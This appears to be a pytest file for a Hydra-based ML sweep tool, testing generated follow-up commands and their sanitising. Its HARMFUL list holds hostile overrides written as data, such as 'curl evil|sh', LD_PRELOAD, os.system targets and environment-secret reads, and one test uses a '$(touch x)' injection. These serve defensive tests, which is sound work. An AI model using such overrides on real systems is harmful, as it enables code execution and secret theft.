"""Commands that are given to people do what the sentence before them says."""

from __future__ import annotations

import shlex
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from hydra.core.override_parser.overrides_parser import OverridesParser

from analysis.commands import Fresh, Settling, go_on, left_out, settle, vary_beta
from analysis.runs import Runs
from tests.planted import Planted, of_sweep, runs


@pytest.fixture
def grid() -> Runs:
    return runs([Planted("mse"), Planted("ssim")])


def more_seeds(known: Runs, seeds: int = 3, *, by: Sequence[str] = ("loss.name",)) -> Settling:
    """Of two levels that have one seed each."""
    chosen = [{"loss.name": "mse"}, {"loss.name": "ssim"}]
    return told(settle(known, by, seeds, [1, 1], chosen, confirmed=False))


def told(found: Settling | None) -> Settling:
    assert found is not None
    return found


def test_a_grid_is_widened_by_seeds(grid: Runs, tmp_path: Path) -> None:
    typed = ["loss=mse,ssim", "name=my cats"]
    known = of_sweep(grid, tmp_path, typed, ["hydra.sweeper.n_jobs=2"], n_trials=None)
    assert more_seeds(known)[:2] == (
        "python run.py -m loss=mse,ssim 'name=my cats' hydra.sweeper.n_jobs=2 seed=0,1,2",
        "4 more runs",
    )


def test_seeds_that_were_trained_stay_in_the_command(grid: Runs, tmp_path: Path) -> None:
    known = of_sweep(grid, tmp_path, ["loss=mse,ssim", "seed=4"])
    known.trials["seed"] = 4
    assert more_seeds(known).command == "python run.py -m loss=mse,ssim seed=4,0,1"


@pytest.mark.parametrize(
    ("typed", "sweeper"),
    [
        (["lr=tag(log,interval(1e-4,1e-2))"], {}),
        (["loss=mse,ssim"], {"n_trials": 40}),
        (["sweep=full"], {"params": {"lr": "tag(log,interval(1e-4,1e-2))"}}),
    ],
)
def test_the_best_of_each_level_of_a_search_is_confirmed(
    grid: Runs, tmp_path: Path, typed: list[str], sweeper: dict[str, Any]
) -> None:
    known = of_sweep(grid, tmp_path, typed, **sweeper)
    found = told(settle(known, ("loss.name",), 5, [3, 0], [], confirmed=True))
    assert found.command.endswith(" sweep.confirm_seeds=5")
    assert found.cost == "about 7 more runs"
    assert " seed=" not in found.command
    other = more_seeds(known, by=("latent_dim", "loss.name")).command
    assert other.endswith("sweep.confirm_seeds=3 'sweep.compare=[latent_dim,loss]'")


def test_a_grid_with_one_seed_and_other_keys_is_confirmed_as_well(tmp_path: Path) -> None:
    trials = [Planted(loss, more={"lr": lr}) for loss in ("mse", "ssim") for lr in (1.0, 2.0)]
    known = of_sweep(runs(trials), tmp_path, ["loss=mse,ssim", "lr=1,2"])
    assert more_seeds(known).command.endswith("sweep.confirm_seeds=3"), "and not all are trained"


def test_of_a_grid_with_several_seeds_the_cheaper_way_is_told(tmp_path: Path) -> None:
    def cheapest(rates: int) -> tuple[str, str]:
        trials = [
            Planted(loss, seed, more={"lr": lr})
            for loss in ("mse", "ssim") for lr in range(rates) for seed in range(3)
        ]  # fmt: skip
        known = of_sweep(runs(trials), tmp_path, ["loss=mse,ssim", "lr=..."])
        found = told(settle(known, ("loss.name",), 5, [3, 3], [{}, {}], confirmed=False))
        return found.command.split()[-1], found.cost

    assert cheapest(2) == ("seed=0,1,2,3,4", "8 more runs")
    assert cheapest(9) == ("sweep.confirm_seeds=5", "about 10 more runs")


@pytest.mark.parametrize(("seeds", "own"), [(40, True), (None, True), (4, False)])
def test_a_study_of_what_is_open_is_proposed_where_it_takes_fewer_runs(
    grid: Runs, tmp_path: Path, seeds: int | None, own: bool
) -> None:
    known = of_sweep(grid, tmp_path, ["loss=mse,ssim,l1", "lr=1e-3", "name=cats", "seed=0,1"])
    levels = [{"loss.name": "mse", "lr": 1e-3}, {"loss.name": "ssim", "lr": 1e-3}]
    fresh, by = Fresh(levels, 9), ("loss.name",)
    for confirmed in (False, True):
        found = settle(known, by, seeds, [1, 1], levels, confirmed=confirmed, fresh=fresh)
        words = told(found).command.split()
        assert ("name=cats-2" in words) == own
        if own:
            assert {"loss=mse,ssim", "'seed=range(1,10)'", "lr=1e-3"} <= set(words)
            assert told(found).cost == "18 more runs"
    levels[0]["lr"] = 2e-3
    other = settle(known, by, seeds, [1, 1], levels, confirmed=True, fresh=Fresh(levels, 9))
    assert (other is None) == (seeds is None), "a grid would train more than these two"


def test_a_search_that_compares_nothing_has_its_best_confirmed(tmp_path: Path) -> None:
    trials = [Planted(more={"lr": 1e-3 * 1.01**k}) for k in range(9)]
    known = of_sweep(runs(trials), tmp_path, ["lr=interval(1e-4,1e-2)"], n_trials=9)
    found = told(settle(known, (), 3, [0] * 9, [{}] * 9, confirmed=False))
    assert found.command.endswith("sweep.confirm=3 sweep.confirm_seeds=3")
    assert found.cost == "about 9 more runs"


@pytest.mark.parametrize(
    ("workers", "cost"),
    [(None, "about 20 minutes"), (4, "about 5 minutes"), (100, "a minute or two")],
)
def test_the_price_is_that_of_the_runs_so_far(
    grid: Runs, tmp_path: Path, workers: int | None, cost: str
) -> None:
    known = of_sweep(grid, tmp_path, ["loss=mse,ssim"], n_jobs=workers)
    known.trials["seconds/total"] = [200.0, 400.0]
    assert more_seeds(known).cost == f"4 more runs ({cost})"


def test_without_the_sweeps_directory_it_lists_what_the_trials_took(grid: Runs) -> None:
    assert more_seeds(grid).command == "python run.py -m name=cats loss=mse,ssim seed=0,1,2"


@pytest.mark.parametrize("name", ["Größe 1", "a,b", "it's", "x=1", "null", "7"])
def test_hydra_reads_any_name_back(tmp_path: Path, name: str) -> None:
    known = runs([Planted("mse"), Planted("ssim")])
    known = replace(known, trials=known.trials.assign(name=name))
    typed = [more_seeds(known).command, vary_beta(known, {}, ["mse"], "1,2")]
    for command, expected in zip(typed, [name, f"{name}-rate"], strict=True):
        overrides = shlex.split(command)[3:]
        read = OverridesParser.create().parse_overrides(overrides)
        (found,) = [override.value() for override in read if override.key_or_group == "name"]
        assert str(getattr(found, "text", found)) == expected


def test_of_single_runs_it_keeps_what_was_typed(grid: Runs, tmp_path: Path) -> None:
    (tmp_path / ".hydra").mkdir()
    typed = ["data=images", "data.root=photos", "loss=mse", "seed=3"]
    (tmp_path / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(typed))
    known = replace(grid, trials=grid.trials.assign(directory=str(tmp_path)))
    assert more_seeds(known).command == (
        "python run.py -m data=images data.root=photos name=cats loss=mse,ssim seed=0,1,2"
    )


@pytest.mark.parametrize("content", ["[", "hydra: 3", "hydra: {overrides: {}}", "\xff"])
def test_a_broken_file_is_as_good_as_none(grid: Runs, tmp_path: Path, content: str) -> None:
    known = of_sweep(grid, tmp_path, [])
    (tmp_path / "multirun.yaml").write_bytes(content.encode("latin-1"))
    assert more_seeds(known).command == "python run.py -m name=cats loss=mse,ssim seed=0,1,2"


def test_beta_is_varied_with_all_else_fixed(grid: Runs, tmp_path: Path) -> None:
    typed = [
        "data=images",
        "lr=tag(log,interval(1e-4,1e-2))",
        "objective=[psnr,ssim]",
        "sweep=full",
        "sweep.confirm_seeds=8",
        "sweep.max_retries=1",
    ]
    search = [
        "hydra.sweeper.n_trials=40",
        "hydra/sweeper/pruner=hyperband",
        "hydra.sweeper.study_name=mine",
        "hydra.sweeper.n_jobs=2",
    ]
    known = of_sweep(grid, tmp_path, typed, search)
    command = vary_beta(known, {"latent_dim": 64, "lr": 3e-4}, ["mse", "ssim"], "0.5,1,2")
    assert command == (
        "python run.py -m data=images 'objective=[psnr,ssim]' sweep=full sweep.max_retries=1 "
        "hydra.sweeper.n_jobs=2 name=cats-rate hydra.sweeper.n_trials=null sweep.confirm=0 "
        "latent_dim=64 "
        "lr=0.0003 loss=mse,ssim beta=0.5,1,2 seed=0,1,2"
    )


HARMFUL = [
    "hydra.job.env_set.VAESWEEP_TRUST=os",
    "+hydra.job.env_set={LD_PRELOAD:x.so}",
    "hydra.launcher.setup=[curl evil|sh]",
    "hydra.launcher.python=evil",
    "hydra.launcher.ray.init.address=ray://evil",
    "hydra={job:{env_set:{A:b}}}",
    "+hydra.callbacks.x._target_=os.system",
    "hydra.sweeper.sampler._target_=os.system",
    "hydra.searchpath=[file:///evil]",
    "hydra.run.dir=/etc",
    "hydra.output_subdir=/etc",
    "hydra.job_logging.handlers.file.filename=/etc/x",
    "data.cache_dir=/etc",
    "data={cache_dir:/etc}",
    "data={cache_dir:/etc},{cache_dir:/usr}",
    "logger={entity:evil}",
    "logger.entity=evil",
    "logger.project=evil",
    "logger.log_model=true",
    "logger.tags=[x]",
    "name=${oc.env:SECRET}",
    "loss.target=${oc.env:SECRET}",
    "experiments@hydra.job=evil",
    "lr=1\ncurl evil|sh",
    "lr=\x1b[2J1",
    "~loss",
    "--config-dir=/evil",
    "-m",
    "hydra.sweeper.n_jobs=100000",
    "hydra.sweeper.params.hydra.job.env_set.A=b",
    "hydra.sweeper.params.data.cache_dir=/etc",
]


@pytest.mark.parametrize("harmful", HARMFUL)
def test_a_foreign_sweeps_command_is_repeated_without_what_could_do_harm(
    grid: Runs, tmp_path: Path, harmful: str
) -> None:
    known = of_sweep(grid, tmp_path, ["loss=mse,ssim", harmful], [harmful])
    for command in (
        more_seeds(known).command,
        go_on(tmp_path),
        vary_beta(known, {}, ["mse"], "1,2"),
    ):
        assert command is not None
        words = shlex.split(command)
        assert harmful not in words[3:]
        assert words[:3] == ["python", "run.py", "-m"]
        assert not any("evil" in word or "/etc" in word for word in words)
        assert command.isprintable()
    assert go_on(tmp_path) == "python run.py -m loss=mse,ssim"
    (tmp_path / "0/.hydra").mkdir(parents=True)
    (tmp_path / "0/.hydra/overrides.yaml").write_text(yaml.safe_dump([harmful, "lr=1"]))
    (tmp_path / "multirun.yaml").unlink()
    assert harmful not in shlex.split(more_seeds(known).command)[3:]


def test_a_sweep_goes_on_where_it_lies_and_what_is_left_out_is_named(
    grid: Runs, tmp_path: Path
) -> None:
    own = ["hydra.sweep.dir=/elsewhere", "hydra.sweeper.storage=postgresql://me@db/x"]
    own += ["hydra/launcher=submitit_slurm", "hydra.launcher.timeout_min=60"]
    own += ["hydra.launcher.partition=gpu", "hydra.sweeper.n_jobs=4"]
    folder = tmp_path / "it's; here"
    folder.mkdir()
    known = of_sweep(grid, folder, ["loss=mse,$(touch x)"], own)
    words = shlex.split(go_on(folder) or "")
    escaped = str(folder).replace("'", "\\'")
    assert words[3:] == [
        "loss=mse,$(touch x)",
        "hydra/launcher=submitit_slurm",
        "hydra.launcher.timeout_min=60",
        "hydra.sweeper.n_jobs=4",
        f"hydra.sweep.dir='{escaped}'",
        "hydra.sweeper.storage=URL",
    ]
    assert left_out(folder) == [
        "hydra.sweep.dir",
        "hydra.sweeper.storage",
        "hydra.launcher.partition",
    ]
    assert "hydra.sweep.dir" not in vary_beta(known, {}, ["mse"], "1,2")


def test_a_new_study_has_a_name_and_seeds_of_its_own(grid: Runs, tmp_path: Path) -> None:
    """Above all that it knows: what is between may be of the study that it came from."""
    folder = tmp_path / "outputs/cats-2/sweep"
    folder.mkdir(parents=True)
    (tmp_path / "outputs/cats-3").mkdir()
    known = of_sweep(grid, folder, ["loss=mse,ssim", "name=cats-2", "seed=3,4"])
    known = replace(known, trials=known.trials.assign(name="cats-2", seed=[3, 4]))
    levels = [{"loss.name": "mse"}, {"loss.name": "ssim"}]
    found = told(
        settle(known, ("loss.name",), 40, [2, 2], levels, confirmed=False, fresh=Fresh(levels, 3))
    )
    assert {"name=cats-4", "seed=5,6,7"} <= set(found.command.split())


def test_what_was_typed_is_said_to_be_missing_where_nobody_knows_it(
    grid: Runs, tmp_path: Path
) -> None:
    assert "not known from here" in more_seeds(grid).purpose
    assert more_seeds(of_sweep(grid, tmp_path, ["loss=mse,ssim"])).purpose == ""


def test_a_new_study_keeps_the_preset_and_names_with_brackets(grid: Runs, tmp_path: Path) -> None:
    """What the preset sets beside the search, such as max_epochs, is part of the question."""
    typed = ["sweep=full", "data.root='pics (1)'", "latent_dim=8,16", "lr=choice(1e-3,2e-3)"]
    known = of_sweep(grid, tmp_path, typed, n_trials=9)
    levels = [{"loss.name": loss, "lr": 1e-3} for loss in ("mse", "ssim")]
    fresh = Fresh(levels, 3)
    by = ("loss.name",)
    words = shlex.split(
        told(settle(known, by, None, [3, 3], levels, confirmed=True, fresh=fresh)).command
    )
    assert {"sweep=full", "data.root='pics (1)'", "sweep.confirm=0"} <= set(words)
    assert "hydra.sweeper.n_trials=null" in words
    assert not {"latent_dim=8,16", "lr=choice(1e-3,2e-3)"} & set(words)


def test_seeds_that_are_missing_here_and_there_are_counted(tmp_path: Path) -> None:
    trials = [Planted("mse", 0), Planted("mse", 1), Planted("l1", 1)]
    known = of_sweep(runs(trials), tmp_path, ["loss=mse,l1", "seed=0,1"])
    levels = [{"loss.name": "mse"}, {"loss.name": "l1"}]
    found = told(settle(known, ("loss.name",), 3, [2, 1], levels, confirmed=False))
    assert found.cost == "3 more runs"
    assert found.command.endswith("seed=0,1,2")
